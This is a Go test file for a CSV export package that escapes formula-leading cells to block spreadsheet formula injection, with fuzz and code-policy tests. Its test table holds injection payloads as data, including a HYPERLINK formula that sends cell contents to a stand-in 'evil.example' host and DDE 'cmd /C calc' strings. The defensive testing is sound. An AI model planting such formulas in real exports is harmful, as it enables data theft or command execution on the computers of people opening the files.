package csvexport_test

import (
	"bytes"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/talentbridge/platform/shared/csvexport"
)

func TestCell(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		// Formula-leading cells, OWASP's list.
		{"=1+2", "'=1+2"},
		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"},
		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
		{"\t=1+2", "'\t=1+2"},
		{"\r=1+2", "'\r=1+2"},
		{"=", "'="},
		{"-", "'-"},
		{"+", "'+"},
		{"@", "'@"},
		{"@asha", "'@asha"},
		{"- bullet", "'- bullet"},
		// Full-width signs.
		{"＝1+2", "'＝1+2"},
		{"＋81", "'＋81"},
		{"－3", "'－3"},
		{"＠x", "'＠x"},
		// Signed things that are not plain numbers.
		{"+81 90-1234-5678", "'+81 90-1234-5678"},
		{"+81-90-1234-5678", "'+81-90-1234-5678"},
		{"-1e5", "'-1e5"},
		{"-1.2.3", "'-1.2.3"},
		{"-.", "'-."},
		{"+0x1F", "'+0x1F"},
		{"-3 ", "'-3 "},
		// Plain numbers stay numbers.
		{"-3", "-3"},
		{"+81", "+81"},
		{"+819012345678", "+819012345678"},
		{"-0.5", "-0.5"},
		{"-.5", "-.5"},
		{"+3.", "+3."},
		// Nothing to escape.
		{"", ""},
		{"3", "3"},
		{"Asha Rao", "Asha Rao"},
		{"a=b", "a=b"},
		{" =1+2", " =1+2"},
		{"'=1+2", "'=1+2"},
		{"東京", "東京"},
	} {
		if got := csvexport.Cell(tc.in); got != tc.want {
			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestWriter(t *testing.T) {
	t.Parallel()
	var buf bytes.Buffer
	w := csvexport.NewWriter(&buf)
	rec := []string{"=1+2", "-3", "a,\"b\"", "+81 90", "line\nbreak"}
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	if err := w.WriteAll([][]string{{"@x", "plain"}}); err != nil {
		t.Fatal(err)
	}
	want := "'=1+2,-3,\"a,\"\"b\"\"\",'+81 90,\"line\nbreak\"\n'@x,plain\n"
	if got := buf.String(); got != want {
		t.Errorf("written = %q, want %q", got, want)
	}
	if rec[0] != "=1+2" {
		t.Errorf("Write changed its record: %q", rec)
	}
}

var plainNumber = regexp.MustCompile(`^[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)$`)

func formulaLeading(s string) bool {
	return s != "" && (strings.ContainsRune("=+-@\t\r", rune(s[0])) || strings.ContainsRune("＝＋－＠", []rune(s)[0]))
}

// FuzzWriter writes two arbitrary cells and reads them back with
// encoding/csv: each comes back as Cell made it — the original, or the
// original behind one quote — and never as a formula.
func FuzzWriter(f *testing.F) {
	for _, s := range []string{"=1+2", "-3", "+81 90-1234-5678", "a,b", "\"q\"", "\t@x", "＝x", ""} {
		f.Add(s, "x")
	}
	f.Fuzz(func(t *testing.T, a, b string) {
		var buf bytes.Buffer
		w := csvexport.NewWriter(&buf)
		if err := w.WriteAll([][]string{{a, b, "end"}}); err != nil {
			t.Fatal(err)
		}
		r := csv.NewReader(&buf)
		r.FieldsPerRecord = -1
		got, err := r.ReadAll()
		if err != nil {
			t.Fatalf("reading back %q: %v", buf.String(), err)
		}
		if len(got) != 1 || len(got[0]) != 3 || got[0][2] != "end" {
			t.Fatalf("read back %q from %q, want one record of three cells", got, buf.String())
		}
		for i, in := range []string{a, b} {
			out := got[0][i]
			// encoding/csv reads a quoted \r\n as \n.
			want := strings.ReplaceAll(csvexport.Cell(in), "\r\n", "\n")
			if out != want {
				t.Errorf("cell %q read back as %q, want %q", in, out, want)
			}
			if out != in && out != "'"+in && !strings.Contains(in, "\r") {
				t.Errorf("cell %q read back as %q: neither as given nor quoted", in, out)
			}
			if formulaLeading(out) && !plainNumber.MatchString(out) {
				t.Errorf("cell %q read back as %q, which a spreadsheet reads as a formula", in, out)
			}
		}
	})
}

// TestEveryExportUsesThisPackage keeps encoding/csv's Writer out of the
// platform's code, so that a new export cannot skip the escaping. The one
// other writer makes the demo's import files, which must keep their cells
// as given (an import stores what it reads).
func TestEveryExportUsesThisPackage(t *testing.T) {
	t.Parallel()
	allowed := map[string]bool{
		filepath.Join("shared", "csvexport", "csvexport.go"):           true,
		filepath.Join("services", "standalone", "demo", "generate.go"): true,
	}
	root := filepath.Join("..", "..")
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == "node_modules" || d.Name() == "testdata" || strings.HasPrefix(d.Name(), ".")) && path != root {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		rel, _ := filepath.Rel(root, path)
		b, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		if bytes.Contains(b, []byte("csv.NewWriter(")) && !allowed[rel] {
			t.Errorf("%s writes CSV with encoding/csv; exports must use csvexport.NewWriter", rel)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
